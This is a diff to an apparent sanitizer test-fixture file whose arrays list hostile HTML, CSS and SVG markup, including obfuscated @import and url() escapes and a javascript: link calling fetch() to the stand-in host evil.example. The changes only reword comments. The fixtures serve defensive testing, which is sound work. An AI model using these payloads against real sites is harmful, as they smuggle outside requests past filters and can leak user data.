@@ -1,4 +1,4 @@
-/** Markup that reaches out or does something, each naming evil.example. Nothing of that may be left. */
+/** Markup that contacts a server or runs something. Each piece names evil.example, which must not remain. */
 export const HOSTILE: readonly string[] = [
   '<link rel="preconnect" href="http://evil.example">',
   '<link rel="dns-prefetch" href="//evil.example">',
@@ -39,7 +39,7 @@ export const HOSTILE: readonly string[] = [
   '<portal src="http://evil.example"></portal><fencedframe src="http://evil.example"></fencedframe>',
   '<bgsound src="http://evil.example"><sound src="http://evil.example">',
   '<blockquote cite="http://evil.example">x</blockquote>',
-  // CSS, in sheets and in attributes.
+  // CSS in style sheets and attributes.
   '<style>@import "http://evil.example/a.css";</style>',
   "<style>@import url(http://evil.example/a.css) screen;</style>",
   '<style>@\\69mport "http://evil.example";</style>',
@@ -66,7 +66,7 @@ export const HOSTILE: readonly string[] = [
   '<p style="background: url&lpar;http://evil.example&rpar;">x</p>',
   '<p style="background: \\75\\72\\6c(http://evil.example)">x</p>',
   '<body style="background: url(http://evil.example)">x</body>',
-  // SVG, and styles in it, which a browser reads as markup.
+  // SVG and styles in it, which a browser reads as markup.
   '<svg><use href="http://evil.example#a"/><use xlink:href="http://evil.example#a"/></svg>',
   '<svg><image href="http://evil.example"/><feImage href="http://evil.example"/></svg>',
   "<svg><a xlink:href=\"javascript:fetch('http://evil.example')\"><text>x</text></a></svg>",
@@ -81,7 +81,7 @@ export const HOSTILE: readonly string[] = [
   '<!--[if IE]><img src="http://evil.example"><![endif]-->',
 ];
 
-/** Pieces of hostile markup, put together as they come. */
+/** Pieces of hostile markup, which tests combine at random. */
 export const PIECES: readonly string[] = [
   ...[
     "<svg>",
